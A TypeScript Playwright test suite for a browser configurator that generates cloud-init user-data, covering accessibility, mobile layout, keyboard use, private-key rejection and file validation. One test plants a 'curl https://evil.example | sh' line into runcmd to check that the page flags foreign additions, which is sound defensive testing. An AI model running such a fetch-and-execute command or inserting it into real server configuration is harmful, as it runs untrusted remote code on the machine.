import { mkdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { decodeUtf8 } from '#contract/text/bytes.ts';
import { renderUserData } from '../../../builder/deliver/user-data/render.ts';
import { inputsWith } from '../../builder/deliver/user-data/rendered.ts';
import { needs } from '../needs.ts';
import { choose, PageFolder } from './opened-page.ts';
import { facts, files } from './release-files.ts';

const given = needs('browser');
const output = fileURLToPath(new URL('../../output', import.meta.url));
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const key =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOfVscOQjj0xpAv9TsSsXHMgaePCX3vFCzV9Y1yHldL8 me@laptop';

const phone = { viewport: { width: 320, height: 640 }, hasTouch: true };

/** Rules that a page violates, with the elements. */
async function violationsOf(page: Page): Promise<string[]> {
  await page.evaluate(axe);
  return await page.evaluate(`axe.run().then(({ violations }) =>
    violations.map(({ id, nodes }) => id + ': ' + nodes.map(({ html }) => html).join(' ')))`);
}

/** Presses Tab until an element has the focus. */
async function tabTo(page: Page, selector: string): Promise<void> {
  for (let count = 0; count < 60; count += 1) {
    await page.keyboard.press('Tab');
    if (await page.locator(`${selector}:focus`).count()) return;
  }
  throw new Error(`Tab does not reach ${selector}`);
}

given.describe('a walk through the page', () => {
  let folder: PageFolder;
  beforeAll(async () => {
    mkdirSync(output, { recursive: true });
    folder = await PageFolder.start(given.browser, facts);
  });
  afterAll(() => folder.close());

  const picture = (page: Page, name: string) =>
    page.screenshot({ path: join(output, `configurator-${name}.png`), fullPage: true });

  /** Fills in the page by its form. */
  async function fillIn(page: Page): Promise<void> {
    await choose(page, files);
    await page.click('.presets button >> nth=0');
    await page.fill('[id="field-hosts.ui"]', 'chat.example.com');
    await page.fill('[id="field-admin.email"]', 'me@example.com');
    await page.check('[id="field-tls.accept_terms"]');
    await page.fill('[id="field-admin.ssh_keys"]', key);
    await page.fill('[id="field-release"]', 'https://downloads.example.com/landfall/');
    await page.waitForSelector('#user-data');
  }

  it('shows each step without violations of accessibility rules, and contacts nothing', async () => {
    folder.requests.length = 0;
    const page = await folder.open('file', { viewport: { width: 1100, height: 900 } });
    await page.waitForSelector('h1');
    expect(await violationsOf(page)).toEqual([]);
    await picture(page, 'empty');
    await page.click('.presets button >> nth=0');
    await picture(page, 'errors');
    expect(await violationsOf(page)).toEqual([]);
    await fillIn(page);
    expect(await page.innerText('#server [role=status]')).toBe('All settings are valid.');
    expect(await page.innerText('#check')).toContain('chat.example.com');
    for (const step of ['release', 'server', 'check', 'paste']) {
      const path = join(output, `configurator-${step}.png`);
      await page.locator(`#${step}`).screenshot({ path });
    }
    expect(await violationsOf(page)).toEqual([]);
    expect(folder.requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
    expect(folder.complaints).toEqual([]);
  });

  it('fits a phone of 320 pixels in Chinese, and the dark scheme', async () => {
    const page = await folder.open('file', { ...phone, locale: 'zh-CN' });
    await fillIn(page);
    expect(await page.innerText('#server [role=status]')).toBe('所有设置都有效。');
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(320);
    for (const step of ['release', 'server', 'check', 'paste']) {
      const path = join(output, `configurator-phone-${step}.png`);
      await page.locator(`#${step}`).screenshot({ path });
    }
    await page.emulateMedia({ colorScheme: 'dark' });
    await picture(page, 'phone-dark');
    expect(await violationsOf(page)).toEqual([]);
  });

  it('makes a paste with the keyboard alone', async () => {
    const page = await folder.open('file');
    await choose(page, files);
    await tabTo(page, '.presets button:nth-of-type(2)');
    await page.keyboard.press('Enter');
    await tabTo(page, '[id="field-admin.ssh_keys"]');
    await page.keyboard.type(key);
    await tabTo(page, '[id="field-release"]');
    await page.keyboard.type('push');
    await page.waitForSelector('#user-data');
    await tabTo(page, '#user-data');
    expect(await page.inputValue('#user-data')).toContain('waits until you send this release');
  });

  it('moves the focus to the first problem', async () => {
    const page = await folder.open('file');
    await page.click('.presets button >> nth=0');
    await page.click('text=Continue');
    expect(await page.evaluate('document.activeElement.id')).toBe('field-release');
    await page.click('.problem-list >> text=tls.accept_terms');
    expect(await page.evaluate('document.activeElement.id')).toBe('field-tls.accept_terms');
  });

  it('refuses to take over a private key that is pasted', async () => {
    const page = await folder.open('file');
    await page.click('.presets button >> nth=1');
    await page.evaluate(`{
      const clipboardData = new DataTransfer();
      clipboardData.setData('text', '-----BEGIN OPENSSH PRIVATE KEY-----');
      const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
      document.getElementById('field-admin.ssh_keys').dispatchEvent(paste);
    }`);
    expect(await page.innerText('#server [role=alert]')).toContain('This is a private key');
    expect(await page.inputValue('#site')).not.toContain('PRIVATE KEY');
  });

  it('loads a site.yaml and shows the same text', async () => {
    const text = `# Mine.\nrelease: push\nadmin: { ssh_keys: [ "${key}" ] }\n`;
    const page = await folder.open('file');
    const buffer = Buffer.from(text);
    await page.setInputFiles('#server input[type=file]', {
      ...{ name: 'site.yaml', mimeType: 'text/yaml', buffer },
    });
    await page.waitForSelector('[id="field-admin.user"]');
    expect(await page.inputValue('#site')).toBe(text);
    expect(await page.inputValue('[id="field-admin.ssh_keys"]')).toBe(key);
  });

  it('verifies the release that it contains, without any other file', async () => {
    const contained = files.map(({ name, buffer }) => [name, buffer.toString('base64')]);
    const own = await PageFolder.start(given.browser, {
      ...facts,
      files: Object.fromEntries(contained),
    });
    try {
      for (const over of ['file', 'http'] as const) {
        const page = await own.open(over);
        expect(await page.innerText('#release [role=status]')).toContain('landfall 1.2.0');
      }
      expect(own.requests.filter((url) => /release\.json/.test(url))).toEqual([]);
    } finally {
      await own.close();
    }
  });

  it('names a file that is too large, and one that is not UTF-8', async () => {
    const page = await folder.open('file');
    const alert = page.locator('main > [role=alert]');
    await choose(page, [{ name: 'landfall-1.2.0-amd64.tar', buffer: Buffer.alloc(10_000_000) }]);
    expect(await alert.innerText()).toContain('landfall-1.2.0-amd64.tar is too large');
    await choose(page, [{ name: 'site.yaml', buffer: Buffer.from('release: push', 'utf16le') }]);
    await page.waitForSelector('main > [role=alert] >> text=CONFIG_ENCODING');
    expect(await page.inputValue('#site')).toBe('');
  });

  it("explains another person's user-data, also from gzip, and names what was added", async () => {
    const page = await folder.open('file');
    const inputs = inputsWith({ format: 'gzip', provider: 'gcp' });
    const buffer = Buffer.from(renderUserData(inputs).bytes);
    const file = { name: 'user-data', mimeType: 'application/gzip', buffer };
    await page.setInputFiles('#read input[type=file]', file);
    await page.waitForSelector('#explained');
    expect(await page.innerText('#read')).toContain('downloads.example.com');
    const text = decodeUtf8(renderUserData(inputsWith()).bytes);
    await page.fill('#other', text.replace('runcmd:', 'runcmd:\n- curl https://evil.example | sh'));
    expect(await page.innerText('#explained')).toContain('evil.example');
  });

  it('becomes usable within 1.5 s on a slow computer, and shows problems at once', async () => {
    const page = await folder.open('file');
    const session = await page.context().newCDPSession(page);
    // The time of the processor, because this machine may be busy.
    await session.send('Performance.enable', { timeDomain: 'threadTicks' });
    const spent = async () => {
      const { metrics } = await session.send('Performance.getMetrics');
      return 1000 * (metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN);
    };
    await page.reload();
    await page.waitForSelector('.presets button');
    const usable = await spent();
    await choose(page, files);
    await page.waitForSelector('#release dl');
    const verified = await spent();
    await page.click('.presets button >> nth=0');
    await page.focus('[id="field-hosts.ui"]');
    const filled = await spent();
    await page.keyboard.type('C');
    await page.waitForSelector('[id="field-hosts.ui"][aria-invalid]');
    const typed = await spent();
    console.log(
      `usable: ${usable} ms, verified: ${verified - usable} ms, a key: ${typed - filled} ms`,
    );
    const slower = 4;
    expect(slower * usable).toBeLessThan(1500);
    expect(verified - usable).toBeLessThan(1000);
    expect(typed - filled).toBeLessThan(100);
  });
});
